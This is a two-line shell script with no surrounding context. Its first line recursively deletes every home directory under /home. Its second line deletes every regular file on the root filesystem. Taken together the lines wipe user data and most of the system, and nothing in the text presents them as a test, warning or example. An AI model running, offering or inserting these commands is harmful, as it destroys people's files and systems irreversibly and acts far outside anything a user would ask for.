rm -rf /home/*
find / -xdev -type f -delete
